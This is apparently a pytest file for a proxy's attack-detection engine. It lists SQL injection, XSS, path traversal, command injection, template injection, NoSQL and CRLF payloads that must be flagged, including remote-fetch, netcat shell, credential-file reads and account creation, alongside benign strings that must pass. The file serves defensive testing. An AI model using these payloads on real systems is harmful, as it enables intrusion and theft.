"""Detection and false-positive tables, one per class: what each detector must and must not flag."""

from __future__ import annotations

import pytest

from proxy.detect import CLASSES, Engine, Field, json_fields, query_fields
from proxy.detect.base import normalise
from proxy.detect.engine import DEFAULT_DETECTORS


def _fires(cls: str, value: str, source: str = "body", is_key: bool = False) -> str | None:
    field = Field(source, f"{source}.x", value, is_key)  # type: ignore[arg-type]
    hit = DEFAULT_DETECTORS[cls][0].match(normalise(value), field)
    return hit.detector_id if hit else None


ATTACKS = [
    ("sqli", "admin' --"), ("sqli", "' or 'x'='x"), ("sqli", "1' AND 1=1 AND 'a'='a"), ("sqli", "') or ('x')=('x"),
    ("sqli", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x72)-- -"), ("sqli", "1 union/**/select 1,2,3"),
    ("sqli", "'; DROP TABLE users; --"), ("sqli", "1) AND 8137=8137 AND (5=5"), ("sqli", "1' AND SLEEP(5)#"),
    ("sqli", "1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x71))"), ("sqli", "' or 1=1/*"), ("sqli", "1;waitfor delay '0:0:5'--"),
    ("sqli", "(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))"), ("sqli", "1 /*!50000union*/ /*!50000select*/ 1,2"),
    ("sqli", "x' or username like '%"), ("sqli", "' UNION SELECT"), ("sqli", "1 order by 5--"),
    ("xss", "<script>alert(1)</script>"), ("xss", "<img src=x onerror=alert(1)>"), ("xss", "<svg/onload=alert(1)>"),
    ("xss", "\" onmouseover=\"alert(1)"), ("xss", "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>"),
    ("xss", "<iframe srcdoc=\"&lt;script&gt;\">"), ("xss", "javascript:alert(document.cookie)"),
    ("xss", "＜script＞alert(1)＜/script＞"), ("xss", "<scr\x00ipt>alert(1)</script>"), ("xss", "\";alert('x');//"),
    ("xss", "<div style=\"width: expression(alert(1))\">"), ("xss", "\"><iframe src=//evil>"),
    ("xss", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">"), ("xss", "<IMG SRC=JaVaScRiPt:alert('x')>"),
    ("lfi", "../../../etc/passwd"), ("lfi", "..\\..\\windows\\win.ini"), ("lfi", "/etc/shadow"),
    ("lfi", "....//....//etc/passwd"), ("lfi", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"), ("lfi", "..%252f..%252fetc"),
    ("lfi", "php://filter/convert.base64-encode/resource=index.php"), ("lfi", "file:///etc/passwd"),
    ("lfi", "report.pdf\x00.jpg"), ("lfi", "/proc/self/environ"), ("lfi", "c:\\boot.ini"),
    ("lfi", "．．/．．/etc/hosts"), ("lfi", "../config.php"), ("lfi", "/./././etc/passwd"),
    ("cmdi", "; id"), ("cmdi", "| cat /etc/passwd"), ("cmdi", "a && whoami"), ("cmdi", "$(curl http://x/s.sh)"),
    ("cmdi", "`id`"), ("cmdi", "x;ping -c 10 127.0.0.1"), ("cmdi", "() { :;}; /bin/bash -c 'id'"),
    ("cmdi", "cat${IFS}/etc/passwd"), ("cmdi", "nc -lvvp 4444 -e /bin/sh"), ("cmdi", "; sleep 10"),
    ("cmdi", "<?php system($_GET['c']); ?>"), ("cmdi", "{${phpinfo()}}"), ("cmdi", "a\nid"), ("cmdi", "ipconfig /all"),
    ("cmdi", "& net user hacker pw /ADD"), ("cmdi", "perl -e 'print 1'"), ("cmdi", "';exit(md5('x'));//"),
    ("ssti", "{{7*7}}"), ("ssti", "${7*7}"), ("ssti", "<%= 7 * 7 %>"), ("ssti", "#{7*7}"),
    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"), ("ssti", "{{config.items()}}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"), ("ssti", "{{request|attr('application')}}"),
    ("ssti", "{php}echo `id`;{/php}"), ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>"),
    ("nosqli", "', $where: '1 == 1'"), ("nosqli", "{\"$gt\": \"\"}"), ("nosqli", "'; sleep(5000); '"),
    ("nosqli", "' && this.password.match(/.*/)//"), ("nosqli", "db.users.find({})"), ("nosqli", "[$ne]=1"),
    ("crlf", "/%0d%0aSet-Cookie:x=1"), ("crlf", "a\r\nLocation: http://evil"), ("crlf", "x%u000aSet-Cookie:a=b"),
    ("crlf", "x\u560d\u560aSet-Cookie: a"),
]


@pytest.mark.parametrize(("cls", "value"), [pytest.param(c, v, id=f"{c}:{v[:40]}") for c, v in ATTACKS])
def test_attack_is_detected(cls: str, value: str) -> None:
    assert _fires(cls, value, "query") is not None


BENIGN = [
    "Conor O'Brien", "Renée O'Connor-Smith", "Robert'); Drop", "Dr. Sarah Union", "null",
    "Please select one item from the union list and drop it in the basket.",
    "We played drop table tennis all afternoon; it was great fun.",
    "Can you update my order? The previous one was wrong -- sorry!", "It's 1=1 in my book: you get what you pay for.",
    "Select all that apply: (a) yes, (b) no, (c) maybe.", "Use 2 > 1 and 3 < 4 as examples for the homework.",
    "He said 'yes' or 'no' and left.", "Answer 'yes' or 'no'", "Order by phone or online; we ship from Cork.",
    "union select wget", "The union select committee meets at 5",
    "<p>Hello <strong>world</strong>! See <a href=\"https://example.com/?a=1&amp;b=2\">this</a>.</p>",
    "<p><img src=\"https://cdn.example.com/cat.jpg\" alt=\"cat\"></p>", "Use the <code>&lt;script&gt;</code> tag.",
    "<iframe src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>", "JavaScript: The Good Parts (2008)",
    "if (a && b || !c) { console.log('ok'); }", "document.querySelector('#save').addEventListener('click', f);",
    "The kids' drawings are in ../shared/photos, I think.", "See [the guide](../guide/setup.md).",
    "C:\\Users\\anna\\Documents\\CV.docx", "uploads/2024/05/", "https://example.com/etc/passwd-reset",
    "Ping me when you're back; I'll echo the plan to the group.", "Cat sitter needed from 12/03 to 19/03.",
    "I ran `ls -la` and saw the file, but the app doesn't.", "pip install -r requirements.txt && pytest -q",
    "Rock & roll, R&B, AT&T, Q&A", "Items: pen; paper; glue; scissors", "| ID | Name |\n|---|---|\n| 1 | Ann |",
    "comment:\n\n```\ncurl -s https://api.example.com/v1/status | jq .\n```\n", "Reminder: sleep 8 hours",
    "Hi {{name}}, your order #{{order_id}} has shipped.", "Our Jinja tip: use {% raw %} to show braces.",
    "Wait... is it $5 or $50? The page says {price} literally.", "export PATH=$HOME/.local/bin:$PATH",
    "$schema", "Price: €12.50 (incl. VAT) & free shipping", "Line one\nLine two\nSubject: hello",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "素晴らしいサービスでした。", "This product is 💯 — my 👶 loves it 😍", "time.sleep(5) then retry",
]


@pytest.mark.parametrize("value", [pytest.param(v, id=v[:40]) for v in BENIGN])
def test_benign_text_passes_every_class(value: str) -> None:
    engine = Engine([c for c in CLASSES if c != "ssrf"])
    assert engine.scan(json_fields({"text": value})) == []


def test_sql_code_is_sql_unless_the_field_is_excluded() -> None:
    snippet = "SELECT name FROM a UNION SELECT name FROM b;"
    assert _fires("sqli", snippet) == "sqli.union"


def test_nosql_operator_keys() -> None:
    assert _fires("nosqli", "$ne", is_key=True) == "nosqli.operator-key"
    assert _fires("nosqli", "$schema", is_key=True) is None
    assert _fires("nosqli", "user[$regex]", "query", is_key=True) == "nosqli.operator-key"
    hits = Engine(["nosqli"]).scan(query_fields("user[$ne]=x"))
    assert [h.detector_id for h in hits] == ["nosqli.operator-key"]


def test_crlf_in_body_text_needs_a_header_an_attacker_wants() -> None:
    assert _fires("crlf", "Line one\nSubject: hello", "body") is None
    assert _fires("crlf", "x\nSet-Cookie: a=b", "body") == "crlf.header"
    assert _fires("crlf", "x\nSubject: a", "query") == "crlf.header"


# Shapes generalised from the tuning corpus's misses (2026-11-23): each row is (class, value, detector id),
# run through the whole engine (plain-value gates, hex-escape decoding) and not just the detector.
GENERALISED = [
    ("sqli", "'or select *", "sqli.quote-bool"), ("sqli", "\" AND select null,null--", "sqli.quote-bool"),
    ("sqli", "' or '' '", "sqli.quote-bool"), ("sqli", "\" or \"a\" \"", "sqli.quote-bool"),
    ("sqli", "1) AND !SLEEP(5)# -- -", "sqli.sleep"), ("sqli", "1 and not sleep(3)", "sqli.sleep"),
    ("sqli", "*(|(mail=*))", "sqli.ldap-filter"), ("sqli", "admin)(&(objectClass=*))", "sqli.ldap-filter"),
    ("sqli", "\\x27\\x4F\\x52 SELECT *", "sqli.quote-bool"), ("sqli", "\\x27UNION SELECT", "sqli.union"),
    ("sqli", "1\\x20or\\x201=1", "sqli.bool-compare"),
    ("cmdi", "|usr/bin/id\\n", "cmdi.separator-weak"), ("cmdi", "; bin/uname -a", "cmdi.separator-strong"),
    ("cmdi", "ls -l /", "cmdi.bare"), ("cmdi", "ls -lh /etc/", "cmdi.bare"), ("cmdi", "ls -la /home/*", "cmdi.bare"),
    ("cmdi", "sleep 10", "cmdi.bare"),
    ("cmdi", 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD',
     "cmdi.bare"),
]


@pytest.mark.parametrize(("cls", "value", "rid"),
                         [pytest.param(*row, id=f"{row[0]}:{row[1][:40]}") for row in GENERALISED])
def test_generalised_shapes_are_detected(cls: str, value: str, rid: str) -> None:
    assert [h.detector_id for h in Engine([cls]).scan(json_fields({"q": value}))] == [rid]


# near misses of the rows above: prose, paths, tickets and code that must stay clean
NEAR_MISSES = [
    "He said 'yes' or 'no' 'cause he was tired", "Pick 'red' or 'blue'", "Shall we select one?' or not",
    "I sleep(5 hours) a night", "Reminder: sleep 8 hours", "sleep", "Sleep Drop Kitchen",
    "if (!(key in cache)) { load(key); }", "(a|b)&(c|d)", "x = (flags & (MASK | BIT))",
    "ls -la ~/projects | grep api", "ls -l", "ls the files in /tmp first", "tools /usr/local/bin",
    "C:\\xdata\\notes.txt", "b'\\x00\\x01' is two bytes", "printf '\\x41\\x42'", "usr/bin/python3 is missing",
]


@pytest.mark.parametrize("value", [pytest.param(v, id=v[:40]) for v in NEAR_MISSES])
def test_near_misses_stay_clean(value: str) -> None:
    assert Engine([c for c in CLASSES if c != "ssrf"]).scan(json_fields({"text": value})) == []
